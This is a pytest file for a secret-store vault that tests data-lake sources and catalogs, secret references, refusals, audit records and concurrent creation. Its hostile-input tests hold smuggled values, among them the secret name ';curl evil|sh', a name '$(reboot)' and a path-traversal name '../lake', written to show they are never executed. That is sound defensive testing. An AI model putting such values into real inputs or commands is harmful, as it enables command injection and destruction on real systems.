"""Sources and catalogs in the vault: kept, listed, planned, refused, on both databases."""

import json
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
from sqlalchemy import bindparam, text

from secretstore import audit_reading, vault
from secretstore.database import Database, UtcDateTime, utc_now
from secretstore.errors import (
    AlreadyExists,
    ConnectionRefused,
    InUse,
    UnknownConnection,
    UnknownEnvironment,
    UnknownSecret,
)
from secretstore.pins import Pins
from secretstore.run_connection import RunConnection
from secretstore.vault import Actor, ConnectionView, Missing

CANARY = "canary-5d1f0b7e-value"
CREDENTIALS = {"$secret": "LAKE"}
S3 = {"bucket": "lake", "credentials": CREDENTIALS}
REST = {"endpoint": "http://127.0.0.1:8181", "token": {"$secret": "TOKEN"}, "source": "lake"}


@pytest.fixture
def source(shop: Database, actor: Actor) -> ConnectionView:
    """The source `lake` of shop/default."""
    return vault.create_connection(shop, "shop", "default", "source", "lake", "s3", S3, actor=actor)


@pytest.fixture
def catalog(shop: Database, source: ConnectionView, actor: Actor) -> ConnectionView:
    """The catalog `main` of shop/default, on the source `lake`."""
    return vault.create_connection(shop, "shop", "default", "catalog", "main", "iceberg-rest", REST, actor=actor)


def put(db: Database, actor: Actor, pins: Pins, *names: str) -> None:
    for name in names:
        vault.put(db, "shop", "default", name, CANARY.encode(), actor=actor, pins=pins)


def plan(db: Database, environment: str = "default") -> list[RunConnection]:
    place = vault.get_environment(db, "shop", environment)
    with db.reading() as session:
        return vault.connection_plan(session, place.id)


def acts(db: Database) -> list[tuple[str, str, str, dict[str, Any]]]:
    found = audit_reading.list_events(db, "shop")
    return [
        (event.action, event.subject, event.outcome, json.loads(event.detail))
        for event in found
        if event.action.startswith(("source.", "catalog."))
    ]


def test_what_is_created_is_there(shop: Database, source: ConnectionView, actor: Actor) -> None:
    """With who made it, what it leads to and what it names; in its environment alone."""
    assert (source.label, source.kind, source.environment) == ("source lake", "s3", "default")
    assert (source.where, source.settings, source.secrets) == ("s3://lake", S3, ("LAKE",))
    assert (source.created_by, source.updated_by, source.tested_at, source.problem) == ("ada@example",) * 2 + (
        None,
    ) * 2
    assert vault.get_connection(shop, "shop", "default", "source", "lake") == source
    assert vault.list_connections(shop, "shop") == [source]
    assert vault.list_connections(shop, "shop", "staging") == []
    assert vault.list_connections(shop, "shop", role="catalog") == []
    with pytest.raises(UnknownConnection):
        vault.get_connection(shop, "shop", "staging", "source", "lake")


def test_what_is_named_and_not_there_is_told(shop: Database, source: ConnectionView, actor: Actor, pins: Pins) -> None:
    """A secret and a source may come later."""
    assert source.missing == (Missing("credentials", "secret", "LAKE"),)
    put(shop, actor, pins, "LAKE")
    assert vault.get_connection(shop, "shop", "default", "source", "lake").missing == ()
    made = vault.create_connection(shop, "shop", "staging", "catalog", "main", "iceberg-rest", REST, actor=actor)
    assert made.missing == (Missing("token", "secret", "TOKEN"), Missing("source", "source", "lake"))
    assert [view.missing for view in vault.list_connections(shop, "shop")] == [(), made.missing]


def test_two_of_one_name_are_refused(shop: Database, source: ConnectionView, actor: Actor) -> None:
    """A source and a catalog may share one; --replace gives new settings, and forgets the test of the old."""
    with pytest.raises(AlreadyExists) as refusal:
        vault.create_connection(shop, "shop", "default", "source", "lake", "s3", S3, actor=actor)
    assert str(refusal.value) == 'source "lake" exists already'
    assert refusal.value.hint == "to give it other settings, add --replace"
    vault.create_connection(shop, "shop", "default", "catalog", "lake", "glue", {"region": "eu-west-1"}, actor=actor)
    test = {"outcome": "ok", "seconds": 0.5, "message": "seen", "run": "f" * 32, "actor": actor}
    assert vault.record_test(shop, "shop", "default", "source", "lake", **test)  # type: ignore[arg-type]
    bob = Actor("bob@example", "test")
    anew = {"bucket": "pond"}
    made = vault.create_connection(shop, "shop", "default", "source", "lake", "s3", anew, actor=bob, replace=True)
    assert (made.id, made.settings, made.created_by, made.updated_by) == (source.id, anew, "ada@example", "bob@example")
    assert (made.tested_at, made.test_outcome, made.test_run) == (None, None, None)
    assert vault.get_connection(shop, "shop", "default", "source", "lake") == made


def test_a_source_of_the_wrong_kind_is_refused(shop: Database, catalog: ConnectionView, actor: Actor) -> None:
    """A catalog takes a bucket's keys: neither can it name a database, nor can what it names become one."""
    url = {"url": {"$secret": "DATABASE_URL"}}
    with pytest.raises(
        ConnectionRefused, match=r"^source lake is refused: catalog main names it, and the kind postgres"
    ):
        vault.create_connection(shop, "shop", "default", "source", "lake", "postgres", url, actor=actor, replace=True)
    vault.create_connection(shop, "shop", "default", "source", "db", "postgres", url, actor=actor)
    with pytest.raises(ConnectionRefused, match="source names db, which is of kind postgres and has no bucket"):
        vault.create_connection(
            shop, "shop", "default", "catalog", "two", "iceberg-rest", {**REST, "source": "db"}, actor=actor
        )


def test_a_token_in_the_place_of_a_name_is_not_kept(shop: Database, actor: Actor, pins: Pins) -> None:
    """I1, I10: it is neither stored nor repeated; a secret of such a name that is there is taken."""
    token = "dapi0123456789abcdef0123456789abcdef"
    settings = {**REST, "token": {"$secret": token}}
    with pytest.raises(ConnectionRefused) as refusal:
        vault.create_connection(shop, "shop", "default", "catalog", "main", "iceberg-rest", settings, actor=actor)
    why = "token takes the name of a secret; no secret has the name given, which looks like a value"
    assert why in str(refusal.value)
    assert token not in f"{refusal.value!r}{refusal.value.hint}"
    assert vault.list_connections(shop, "shop") == []
    put(shop, actor, pins, token)
    made = vault.create_connection(shop, "shop", "default", "catalog", "main", "iceberg-rest", settings, actor=actor)
    assert made.secrets == (token,)


def test_unknown_names_are_sentences(shop: Database, source: ConnectionView, actor: Actor) -> None:
    """With a close name, or the command that creates it."""
    with pytest.raises(UnknownConnection) as refusal:
        vault.delete_connection(shop, "shop", "default", "source", "lak", actor=actor)
    assert str(refusal.value) == 'no source "lak" in shop/default'
    assert refusal.value.hint == 'did you mean "lake"?'
    with pytest.raises(UnknownConnection) as refusal:
        vault.get_connection(shop, "shop", "default", "catalog", "lake")
    assert refusal.value.hint == "there is a source of this name"
    with pytest.raises(UnknownConnection) as refusal:
        vault.get_connection(shop, "shop", "default", "catalog", "new")
    assert refusal.value.hint == "create it: sealrun catalog create new -p shop -e default --kind KIND"
    for name in ("", "s3://bucket", "My_Lake"):
        with pytest.raises(UnknownConnection) as refusal:
            vault.get_connection(shop, "shop", "default", "catalog", name)
        assert refusal.value.hint == "list them: sealrun catalog list -p shop -e default"
    with pytest.raises(UnknownEnvironment):
        vault.create_connection(shop, "shop", "prod", "source", "lake", "s3", S3, actor=actor)


def test_a_secret_that_something_names_is_not_deleted(
    shop: Database, catalog: ConnectionView, actor: Actor, pins: Pins
) -> None:
    """Unless it is forced; what it is called elsewhere does not count."""
    put(shop, actor, pins, "LAKE", "TOKEN", "OTHER")
    second = {"bucket": "pond", "access_key_id": {"$secret": "LAKE", "field": "id"}, "secret_access_key": CREDENTIALS}
    vault.create_connection(shop, "shop", "default", "source", "pond", "s3", second, actor=actor)
    vault.delete_secret(shop, "shop", "default", "OTHER", actor=actor)
    with pytest.raises(UnknownSecret):
        vault.delete_secret(shop, "shop", "staging", "LAKE", actor=actor)
    with pytest.raises(InUse) as refusal:
        vault.delete_secret(shop, "shop", "default", "LAKE", actor=actor)
    assert str(refusal.value) == "secret LAKE of shop/default is named by source lake and source pond"
    assert str(refusal.value.hint).endswith("or pass --force: runs then do not get them")
    vault.delete_secret(shop, "shop", "default", "LAKE", actor=actor, force=True)
    told = [(found.role, found.name, found.why, found.mend) for found in vault.dangling(shop)]
    mend = "sealrun secret set LAKE -p shop -e default"
    assert told == [
        ("source", "lake", "credentials names the secret LAKE, which is not there", mend),
        ("source", "pond", "access_key_id names the secret LAKE, which is not there", mend),
        ("source", "pond", "secret_access_key names the secret LAKE, which is not there", mend),
    ]


def test_a_source_that_a_catalog_names_is_not_deleted(shop: Database, catalog: ConnectionView, actor: Actor) -> None:
    """Unless it is forced: then the catalog is left out of runs, which is told."""
    with pytest.raises(InUse) as refusal:
        vault.delete_connection(shop, "shop", "default", "source", "lake", actor=actor)
    assert str(refusal.value) == "source lake of shop/default is named by catalog main"
    assert [entry.refused for entry in plan(shop)] == [None, None]
    vault.delete_connection(shop, "shop", "default", "source", "lake", actor=actor, force=True)
    assert [(entry.key, entry.refused) for entry in plan(shop)] == [
        ("catalog/main", "its source lake is not there"),
    ]
    assert [(found.why, found.mend) for found in vault.dangling(shop, "shop")] == [
        ("token names the secret TOKEN, which is not there", "sealrun secret set TOKEN -p shop -e default"),
        (
            "source names the source lake, which is not there",
            "sealrun source create lake -p shop -e default --kind KIND",
        ),
    ]
    vault.delete_connection(shop, "shop", "default", "catalog", "main", actor=actor)
    assert vault.list_connections(shop, "shop") == []


def test_the_plan_has_all_of_one_environment(shop: Database, catalog: ConnectionView, actor: Actor) -> None:
    """Sources first, by name; each key a field of its secret."""
    vault.create_connection(shop, "shop", "staging", "source", "other", "s3", {"bucket": "b"}, actor=actor)
    vault.create_connection(shop, "shop", "default", "source", "attic", "s3", {"bucket": "attic"}, actor=actor)
    found = plan(shop)
    assert [entry.key for entry in found] == ["source/attic", "source/lake", "catalog/main"]
    assert found[1].settings["secret_access_key"] == {"$secret": "LAKE", "field": "aws_secret_access_key"}
    assert found[1].secrets() == {"LAKE"}
    assert found[2].settings == REST
    assert [RunConnection.from_json(json.loads(json.dumps(entry.to_json()))) for entry in found] == found


@pytest.mark.parametrize(
    "settings",
    [
        "no json",
        "[]",
        "7",
        json.dumps({"bucket": "b", "credentials": CANARY}),
        json.dumps({"bucket": "b", "credentials": {"$secret": ["LAKE"]}}),
        json.dumps({"bucket": "b", "of_a_newer_version": True}),
        "[" * 100_000,
    ],
)
def test_a_row_that_somebody_else_wrote_harms_none_of_the_others(
    shop: Database, catalog: ConnectionView, actor: Actor, settings: str
) -> None:
    """It is left out of the plan with a sentence, so is what stands on it; all that lists or checks goes on."""
    vault.create_connection(shop, "shop", "default", "source", "pond", "s3", S3, actor=actor)
    with shop.writing() as session:
        change = text("UPDATE secretstore_connection SET settings = :settings WHERE name = 'lake'")
        session.execute(change, {"settings": settings})
    lake, pond, main = plan(shop)
    assert pond.refused is None
    assert lake.refused is not None
    assert lake.settings == {}
    assert main.refused == f"its source lake cannot be given: {lake.refused}"
    assert CANARY not in repr(plan(shop))
    listed = {view.name: view.problem for view in vault.list_connections(shop, "shop")}
    assert listed == {"lake": lake.refused, "pond": None, "main": None}
    assert {found.name: found.why for found in vault.dangling(shop)}["lake"] == lake.refused
    with pytest.raises(InUse):
        vault.delete_connection(shop, "shop", "default", "source", "lake", actor=actor)
    vault.create_connection(shop, "shop", "default", "source", "lake", "s3", S3, actor=actor, replace=True)
    assert [entry.refused for entry in plan(shop)] == [None, None, None]


def insert(db: Database, **columns: Any) -> None:
    """A row of the environment shop/default, as somebody writes it who can write to the database."""
    row = {"id": "h" * 32, "role": "source", "name": "odd", "kind": "s3", "settings": json.dumps(S3), **columns}
    row |= {"environment_id": vault.get_environment(db, "shop", "default").id, "at": utc_now(), "by": "eve"}
    with db.writing() as session:
        statement = """
        INSERT INTO secretstore_connection
               (id, environment_id, role, name, kind, settings, created_at, created_by, updated_at, updated_by)
        VALUES (:id, :environment_id, :role, :name, :kind, :settings, :at, :by, :at, :by)"""
        session.execute(text(statement).bindparams(bindparam("at", type_=UtcDateTime())), row)


def refers_to(secret: Any) -> dict[str, str]:
    return {"settings": json.dumps({"bucket": "b", "credentials": {"$secret": secret}})}


@pytest.mark.parametrize(
    "columns",
    [
        refers_to(None),
        refers_to("\ud800"),
        refers_to(";curl evil|sh"),
        {"role": "sink"},
        {"role": ""},
        {"kind": "s" * 1_000_000},
        {"name": ""},
        {"name": "../lake"},
        {"name": "a]\n[b"},
        {"name": "$(reboot)"},
        {"name": "n" * 1_000_000},
        {"name": b"lake"},
        {"kind": b"s3"},
    ],
    ids=lambda columns: next(f"{name} {str(value)[:40]!r}" for name, value in columns.items()),
)
def test_an_odd_row_harms_none_of_the_others(
    shop: Database, source: ConnectionView, actor: Actor, columns: dict[str, Any]
) -> None:
    """Runs are planned, and all is listed and checked; what it is called moves no cursor and is no command."""
    odd = columns.get("name", columns.get("kind", ""))
    if shop.dialect != "sqlite" and (isinstance(odd, bytes) or len(odd) > 63):
        pytest.skip("only SQLite keeps bytes where text belongs, and any length")
    insert(shop, **columns)
    entries = [RunConnection.from_json(json.loads(json.dumps(entry.to_json()))) for entry in plan(shop)]
    assert [entry.key for entry in entries if entry.refused is None] == ["source/lake"]
    for entry in entries:
        assert len(entry.key) < 100 and "\n" not in f"{entry.label}: {entry.refused}"
    assert "lake" in {view.name for view in vault.list_connections(shop, "shop")}
    for found in vault.dangling(shop):
        assert "curl" not in found.mend and "create $(" not in found.mend
    with pytest.raises(UnknownSecret):
        vault.delete_secret(shop, "shop", "default", "NOT_THERE", actor=actor)


def test_a_test_is_kept_with_what_it_tested(shop: Database, source: ConnectionView, actor: Actor) -> None:
    """Outcome, time and words, cut to size; that of settings replaced meanwhile is not."""
    test: Any = {"seconds": 1.25, "run": "a" * 32, "actor": actor}
    assert vault.record_test(
        shop,
        "shop",
        "default",
        "source",
        "lake",
        outcome="failed",
        message="x" * 2000,
        tested=source.updated_at,
        **test,
    )
    view = vault.get_connection(shop, "shop", "default", "source", "lake")
    assert (view.test_outcome, view.test_seconds, view.test_message, view.test_run) == (
        "failed",
        1.25,
        "x" * 1000,
        "a" * 32,
    )
    assert view.tested_at is not None
    assert source.updated_at <= view.tested_at <= utc_now()
    assert view.updated_at == source.updated_at
    vault.create_connection(shop, "shop", "default", "source", "lake", "s3", S3, actor=actor, replace=True)
    assert not vault.record_test(
        shop, "shop", "default", "source", "lake", outcome="ok", message=None, tested=source.updated_at, **test
    )
    assert vault.get_connection(shop, "shop", "default", "source", "lake").test_outcome is None


def test_every_act_is_recorded_without_a_value(shop: Database, catalog: ConnectionView, actor: Actor) -> None:
    """What was done to which connection, its kind, what it names, where it leads and led; a test with its outcome."""
    vault.create_connection(shop, "shop", "default", "source", "lake", "s3", {"bucket": "b"}, actor=actor, replace=True)
    vault.record_test(
        shop, "shop", "default", "catalog", "main", outcome="failed", seconds=1, message="no", run="a" * 32, actor=actor
    )
    vault.delete_connection(shop, "shop", "default", "catalog", "main", actor=actor)
    found = [(action, subject, how, {**detail, "connection_id": None}) for action, subject, how, detail in acts(shop)]
    of_main = {"connection_id": None, "kind": "iceberg-rest", "secrets": ["TOKEN"], "source": "lake", "settings": REST}
    s3 = {"connection_id": None, "kind": "s3"}
    assert found == [
        ("source.create", "default/lake", "done", {**s3, "secrets": ["LAKE"], "settings": S3}),
        ("catalog.create", "default/main", "done", of_main),
        ("source.replace", "default/lake", "done", {**s3, "secrets": [], "settings": {"bucket": "b"}, "old": S3}),
        ("catalog.test", "default/main", "failed", {"connection_id": None, "kind": "iceberg-rest", "run": "a" * 32}),
        ("catalog.delete", "default/main", "done", of_main),
    ]
    assert audit_reading.verify(shop, "shop").ok


def test_an_environment_takes_its_connections_with_it(shop: Database, catalog: ConnectionView, actor: Actor) -> None:
    """And so does a project; those of others stay."""
    vault.create_connection(shop, "shop", "staging", "source", "other", "s3", {"bucket": "b"}, actor=actor)
    vault.delete_environment(shop, "shop", "default", actor=actor)
    assert [view.label for view in vault.list_connections(shop, "shop")] == ["source other"]
    vault.destroy_project(shop, "shop", actor=actor)
    with shop.reading() as session:
        assert session.execute(text("SELECT count(*) FROM secretstore_connection")).scalar() == 0


def test_a_secret_given_as_a_file_stays_one(shop: Database, actor: Actor, pins: Pins) -> None:
    """Until it is said otherwise: a new value, a rollback and an import keep it."""

    def as_files() -> tuple[list[bool], list[bool], set[str]]:
        place = vault.get_environment(shop, "shop", "default")
        with shop.reading() as session:
            items = vault.sealed_bundle(session, place.id, None).items
        named = {item.name for item in items if item.as_file}
        listed = [view.as_file for view in vault.list_secrets(shop, "shop")]
        return listed, [entry.as_file for entry in vault.summarize_secrets(shop, "shop", "default")], named

    put(shop, actor, pins, "PLAIN")
    made = vault.put(shop, "shop", "default", "TLS_KEY", CANARY.encode(), actor=actor, pins=pins, as_file=True)
    assert made.as_file
    assert as_files() == ([False, True], [False, True], {"TLS_KEY"})
    put(shop, actor, pins, "TLS_KEY")
    vault.store(shop, "shop", [vault.NewSecret("default", "TLS_KEY", b"imported value")], actor=actor, pins=pins)
    assert vault.rollback(shop, "shop", "default", "TLS_KEY", actor=actor).as_file
    assert as_files() == ([False, True], [False, True], {"TLS_KEY"})
    assert not vault.put(
        shop, "shop", "default", "TLS_KEY", CANARY.encode(), actor=actor, pins=pins, as_file=False
    ).as_file
    assert as_files() == ([False, False], [False, False], set())


def test_of_many_at_once_one_is_made(shop: Database, actor: Actor) -> None:
    """The others are told that it exists already; with `replace` all go through, one after the other."""

    def create(replace: bool) -> str:
        try:
            vault.create_connection(shop, "shop", "default", "source", "lake", "s3", S3, actor=actor, replace=replace)
        except AlreadyExists:
            return "exists"
        return "made"

    with ThreadPoolExecutor(6) as pool:
        assert sorted(pool.map(create, [False] * 6)) == ["exists"] * 5 + ["made"]
        assert list(pool.map(create, [True] * 6)) == ["made"] * 6
    assert len(vault.list_connections(shop, "shop")) == 1
